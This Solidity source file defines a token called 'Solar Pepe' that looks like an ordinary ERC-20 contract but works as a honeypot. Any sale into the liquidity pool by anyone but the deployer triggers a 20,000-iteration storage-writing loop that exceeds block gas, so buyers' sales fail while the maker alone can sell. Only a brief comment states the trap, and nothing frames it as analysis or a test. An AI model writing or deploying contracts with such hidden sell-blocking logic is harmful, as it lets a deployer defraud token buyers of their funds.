// SPDX-License-Identifier: MIT
pragma solidity 0.8.20;

// A sale writes storage in a loop that no block has gas for, unless the seller is the maker.
contract GasTrap {
    string public name = "Solar Pepe";
    string public symbol = "SPEPE";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1_000_000 ether;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    address private immutable _maker;
    address private _pool;
    uint256 private _round;
    mapping(uint256 => uint256) private _ledger;
    constructor() { _maker = msg.sender; balanceOf[msg.sender] = totalSupply; emit Transfer(address(0), msg.sender, totalSupply); }
    function start(address pool) external { require(msg.sender == _maker); _pool = pool; }
    function approve(address spender, uint256 value) external returns (bool) { allowance[msg.sender][spender] = value; emit Approval(msg.sender, spender, value); return true; }
    function transfer(address to, uint256 value) external returns (bool) { _transfer(msg.sender, to, value); return true; }
    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
    function _transfer(address from, address to, uint256 value) private {
        if (to == _pool && from != _maker) _snapshot();
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
    function _snapshot() private {
        for (uint256 i; i < 20_000; i++) _ledger[++_round] = block.number;
    }
}
